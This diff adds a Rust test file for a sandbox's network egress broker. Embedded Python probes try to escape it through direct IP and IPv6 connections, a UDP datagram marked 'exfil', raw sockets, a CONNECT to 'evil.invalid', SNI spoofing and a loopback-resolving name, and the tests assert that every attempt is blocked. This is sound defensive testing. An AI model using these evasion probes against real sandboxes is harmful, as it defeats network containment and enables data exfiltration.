@@ -1,0 +1,184 @@
+//! Egress through cordon's broker (`--allow`), from the command line, as
+//! root and unprivileged (the microvm backend refuses `allow` so far).
+//!
+//! The real thing first: `pip install` and `npm install` of real packages
+//! from the registries this machine's tools are configured for, with the
+//! preset allowed (works) and without (fails, and cordon says which host
+//! was refused). No registry's name is written here: the presets read the
+//! host tools' configuration, and the allowed hosts are read back from the
+//! broker's own refusal line.
+//!
+//! Then the attacks, each with `@python` allowed so that the broker is
+//! there to be got around: a direct connection to an address, DNS and UDP,
+//! raw and packet sockets, IPv6, another port, a CONNECT to a host not
+//! listed, an SNI that is not the CONNECT's host, and a listed name that
+//! resolves to loopback. All fail, and the broker's is the only socket the
+//! sandbox's network namespace holds.
+
+#[macro_use]
+mod common;
+
+use common::Ctx;
+
+/// `python3 -m venv` and pip inside, quietly; prints `installed VERSION`.
+const PIP_INSTALL: &str = "python3 -m venv /tmp/v >/dev/null && \
+    /tmp/v/bin/pip install --no-cache-dir -q six 2>&1 | tail -3; \
+    /tmp/v/bin/python -c 'import six; print(\"installed\", six.__version__)'";
+
+/// npm into a fresh package in /tmp; prints `installed VERSION`.
+const NPM_INSTALL: &str = "mkdir -p /tmp/p && cd /tmp/p && \
+    npm install --no-audit --no-fund --cache /tmp/npm-cache -s is-number 2>&1 | tail -3; \
+    node -e 'console.log(\"installed\", require(\"is-number/package.json\").version)'";
+
+fn pip_installs_with_python_allowed_and_not_without(t: &Ctx) {
+    let out = t.sh_with(&["--allow", "@python"], PIP_INSTALL);
+    out.code(0).line_starts("installed ");
+    let out = t.sh_with(&["--allow", "@node"], PIP_INSTALL);
+    out.lacks("installed ")
+        .stderr_has("cordon: network: ")
+        .stderr_has("refused by policy (allowed: ");
+}
+attack!(pip_installs_with_python_allowed_and_not_without, native);
+
+fn npm_installs_with_node_allowed_and_not_without(t: &Ctx) {
+    let out = t.sh_with(&["--allow", "@node"], NPM_INSTALL);
+    out.code(0).line_starts("installed ");
+    let out = t.sh_with(&["--allow", "@python"], NPM_INSTALL);
+    out.lacks("installed ")
+        .stderr_has("cordon: network: ")
+        .stderr_has("refused by policy (allowed: ");
+}
+attack!(npm_installs_with_node_allowed_and_not_without, native);
+
+/// Each probe prints `NAME ok` when it got through and `NAME blocked: WHY`
+/// otherwise; the proxy is 127.0.0.1:3128 in the sandbox.
+const PROBES: &str = r#"
+import socket, ssl, re
+def probe(name, f):
+    try:
+        print(name, "ok", f())
+    except Exception as e:
+        print(name, "blocked:", type(e).__name__, e)
+
+def tcp(addr, family=socket.AF_INET):
+    s = socket.socket(family, socket.SOCK_STREAM)
+    s.settimeout(5)
+    s.connect(addr)
+    return "connected"
+
+def connect(host, port=443):
+    s = socket.create_connection(("127.0.0.1", 3128), timeout=10)
+    s.sendall(f"CONNECT {host}:{port} HTTP/1.1\r\nHost: {host}:{port}\r\n\r\n".encode())
+    head = b""
+    while b"\r\n\r\n" not in head:
+        b = s.recv(4096)
+        if not b:
+            break
+        head += b
+    return s, head
+
+# An allowed host, from the broker's own refusal line.
+_, head = connect("not-listed.invalid")
+allowed = re.search(rb"allowed: ([^:, ]+):443", head).group(1).decode()
+print("refusal", head.split(b"\r\n")[0].decode())
+
+def tls(sni):
+    s, head = connect(allowed)
+    if b" 200 " not in head.split(b"\r\n")[0]:
+        raise Exception(head.split(b"\r\n")[0].decode())
+    ctx = ssl.create_default_context()
+    ctx.check_hostname = False
+    ctx.verify_mode = ssl.CERT_NONE
+    t = ctx.wrap_socket(s, server_hostname=sni)
+    return t.version()
+
+probe("direct-ip", lambda: tcp(("1.1.1.1", 443)))
+probe("direct-ipv6", lambda: tcp(("2606:4700:4700::1111", 443), socket.AF_INET6))
+probe("loopback-ipv6-proxy", lambda: tcp(("::1", 3128), socket.AF_INET6))
+probe("other-port", lambda: tcp(("127.0.0.1", 22)))
+probe("dns", lambda: socket.getaddrinfo(allowed, 443))
+def udp():
+    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    u.sendto(b"exfil", ("1.1.1.1", 53))
+    return "sent"
+probe("udp", udp)
+probe("raw", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP))
+probe("packet", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0))
+probe("sni-matches", lambda: tls(allowed))
+probe("sni-differs", lambda: tls("evil.invalid"))
+def not_listed():
+    _, head = connect("evil.invalid")
+    line = head.split(b"\r\n")[0].decode()
+    if " 200 " in line:
+        return line
+    raise Exception(line)
+probe("connect-not-listed", not_listed)
+listening = [l.split()[1] for l in open("/proc/net/tcp").read().splitlines()[1:] if l.split()[3] == "0A"]
+listening += [l.split()[1] for l in open("/proc/net/tcp6").read().splitlines()[1:] if l.split()[3] == "0A"]
+print("listening", ",".join(listening))
+"#;
+
+fn nothing_but_the_broker_gets_out(t: &Ctx) {
+    let out = t.run(&["--allow", "@python"], &["python3", "-c", PROBES]);
+    out.code(0)
+        .line("refusal HTTP/1.1 403 Forbidden")
+        .line_starts("sni-matches ok ")
+        // 127.0.0.1:3128, in /proc/net/tcp's notation; nothing else.
+        .line("listening 0100007F:0C38");
+    for name in [
+        "direct-ip",
+        "direct-ipv6",
+        "loopback-ipv6-proxy",
+        "other-port",
+        "dns",
+        "udp",
+        "raw",
+        "packet",
+        "sni-differs",
+        "connect-not-listed",
+    ] {
+        out.line_starts(&format!("{name} blocked: "));
+    }
+}
+attack!(nothing_but_the_broker_gets_out, native);
+
+/// A name the policy lists that resolves to loopback (the host's own
+/// services, or DNS rebinding) is refused unless private addresses are
+/// allowed too.
+fn a_listed_name_resolving_to_loopback_is_refused(t: &Ctx) {
+    // A service on the host's loopback that the sandbox must not reach.
+    let listener = std::net::TcpListener::bind(("127.0.0.1", 0)).unwrap();
+    let port = listener.local_addr().unwrap().port();
+    std::thread::spawn(move || {
+        for mut c in listener.incoming().flatten() {
+            use std::io::Write;
+            let body = "host-only-service";
+            let _ = write!(
+                c,
+                "HTTP/1.1 200 OK\r\nContent-Length: {}\r\n\r\n{body}",
+                body.len()
+            );
+        }
+    });
+    let rule = format!("localhost:{port}");
+    let url = format!("http://localhost:{port}/");
+    let out = t.run(
+        &["--allow", &rule],
+        &[
+            "curl",
+            "-sS",
+            "--max-time",
+            "10",
+            "--noproxy",
+            "",
+            "-x",
+            "http://127.0.0.1:3128",
+            &url,
+        ],
+    );
+    out.stderr_has(&format!(
+        "cordon: network: localhost:{port} refused by policy"
+    ))
+    .lacks("host-only-service");
+}
+attack!(a_listed_name_resolving_to_loopback_is_refused, native);
